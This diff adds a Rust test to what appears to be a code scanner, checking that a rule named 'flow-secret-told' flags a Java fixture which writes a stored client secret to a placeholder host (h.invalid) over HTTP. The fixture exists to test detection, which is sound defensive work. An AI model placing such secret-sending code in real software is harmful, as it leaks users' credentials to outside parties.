@@ -162,3 +162,18 @@ fn honest_ones_of_both() {
     has_not(SHARP, &client, "flow-remote-code");
     assert!(rules(SHARP, &client).is_empty(), "{:?}", rules(SHARP, &client));
 }
+
+#[test]
+fn secrets_that_callers_hand_over_are_told_to_nobody() {
+    let client = |tells: &str| {
+        java(&format!(
+            "private String clientSecret;\npublic Boat clientSecret(String s) {{ clientSecret = s; return this; }}\npublic String url(String base) {{ {tells} return base + clientSecret.hashCode(); }}"
+        ))
+    };
+    let told = client(
+        "try { HttpURLConnection c = (HttpURLConnection) new URL(\"https://h.invalid/a\").openConnection(); c.setDoOutput(true); c.getOutputStream().write(clientSecret.getBytes()); c.getResponseCode(); } catch (Exception e) { }",
+    );
+    has(JAVA, &told, "flow-secret-told");
+    has_not(JAVA, &client(""), "flow-secret-told");
+    has_not(JAVA, &told.replace("write(clientSecret.getBytes())", "write(base.getBytes())"), "flow-secret-told");
+}
